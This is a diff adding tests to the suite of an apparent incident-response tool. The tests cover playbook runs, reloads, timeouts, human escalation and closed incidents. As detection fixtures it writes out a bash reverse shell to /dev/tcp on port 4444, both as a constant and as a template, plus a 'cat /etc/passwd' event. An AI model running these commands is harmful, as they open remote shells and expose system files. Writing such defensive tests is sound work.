@@ -1,6 +1,9 @@
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
 import { FakeClock } from '@firebreak/shared/clock.fake.ts'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import type { StateStore } from '../store/state/state-store.ts'
+import { SHIPPED_PLAYBOOKS } from './playbook-files.ts'
 import { processEvent, Rig, type RigOptions, Site } from './story.rig.ts'
 
 const SHELL = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
@@ -184,6 +187,92 @@ describe('from an event to an order', () => {
     expect(await commands(rig)).toHaveLength(1)
     expect(await rig.store.db.selectFrom('runs').select('id').execute()).toHaveLength(1)
   }, 60_000)
+})
+
+describe('a run', () => {
+  it('is not started again for a host whose incident was merged into another', async () => {
+    const rig = await started()
+    const shell = (address: string) => processEvent(clock, `bash -i >& /dev/tcp/${address}/4444 0>&1`)
+    const a = await rig.host('web-1')
+    const b = await rig.host('web-2')
+    await rig.commit(a, [shell('203.0.113.1')])
+    await rig.commit(b, [shell('203.0.113.2')])
+    await rig.settle()
+    expect(await commands(rig)).toHaveLength(2)
+    await rig.commit(a, [processEvent(clock, 'cat /etc/passwd # 203.0.113.2')])
+    await rig.settle()
+    expect((await incidents(rig)).filter((incident) => incident.merged_into === null)).toHaveLength(1)
+    expect(await commands(rig)).toHaveLength(2)
+    await rig.orders.become('verified')
+    await rig.settle()
+    expect((await incidents(rig)).find((incident) => incident.merged_into === null)).toMatchObject({
+      status: 'contained',
+    })
+  })
+
+  it('goes by the text that it started with, also when the file has changed since', async () => {
+    const dir = mkdtempSync(join(site.dir, 'playbooks-'))
+    const text = readFileSync(join(SHIPPED_PLAYBOOKS, 'contain-host.yml'), 'utf8')
+    writeFileSync(join(dir, 'a.yml'), text)
+    const rig = await started({ respond: { playbook_dirs: [dir] } })
+    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
+    await rig.settle()
+    writeFileSync(join(dir, 'a.yml'), text.replace('- id: contained', '- id: another'))
+    expect(await rig.respond.reloadPlaybooks()).toMatchObject({ ready: true, live: 1 })
+    await rig.orders.become('verified')
+    await rig.settle()
+    expect((await steps(rig)).at(-1)).toEqual(['contained', 'succeeded'])
+  })
+
+  it('of the playbooks before goes on when a new file cannot be used', async () => {
+    const dir = mkdtempSync(join(site.dir, 'playbooks-'))
+    writeFileSync(join(dir, 'a.yml'), readFileSync(join(SHIPPED_PLAYBOOKS, 'contain-host.yml')))
+    const rig = await started({ respond: { playbook_dirs: [dir] } })
+    writeFileSync(join(dir, 'a.yml'), 'id: contain-host')
+    expect(await rig.respond.reloadPlaybooks()).toMatchObject({
+      ready: true,
+      live: 1,
+      why: expect.stringContaining('stay in force'),
+    })
+    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
+    await rig.settle()
+    expect(await commands(rig)).toHaveLength(1)
+  })
+
+  it('ends and asks a person when its command comes to no end in time', async () => {
+    const rig = await started()
+    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
+    await rig.settle()
+    // Four hours for the host to come, a minute for the command, two of grace, and the next look at what waits.
+    await clock.advance((14_400 + 60 + 120 + 31) * 1000)
+    await rig.settle()
+    expect(await rig.run()).toMatchObject({ state: 'failed' })
+    expect((await incidents(rig))[0]?.escalated_why).toContain('whether it took effect is unknown')
+  })
+
+  it('begins nothing new for an incident that a person has closed', async () => {
+    const rig = await started()
+    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
+    await rig.settle()
+    const [incident] = await incidents(rig)
+    await rig.triage.setVerdict({ kind: 'incident', id: String(incident?.id) }, 'false_positive', 'user:ann', 'a drill')
+    await rig.orders.become('verified')
+    await rig.settle()
+    expect(await rig.run()).toMatchObject({ state: 'cancelled', why: 'the incident was closed' })
+    expect((await incidents(rig))[0]).toMatchObject({ status: 'closed' })
+  })
+
+  it('does not answer to an incident that no playbook covers: a person is asked', async () => {
+    const dir = mkdtempSync(join(site.dir, 'playbooks-'))
+    const text = readFileSync(join(SHIPPED_PLAYBOOKS, 'contain-host.yml'), 'utf8')
+    writeFileSync(join(dir, 'a.yml'), text.replace('incident.confidence >= 85.0', 'incident.confidence >= 99.9'))
+    const rig = await started({ respond: { playbook_dirs: [dir] } })
+    await rig.commit(await rig.host('web-1'), [processEvent(clock, SHELL)])
+    await rig.settle()
+    expect(await incidents(rig)).toMatchObject([
+      { route: 'ask', escalated_why: 'no playbook answers to this incident' },
+    ])
+  })
 })
 
 /** A process that dies at its n-th commit: before it is durable, or right after. Nothing is written any more. */
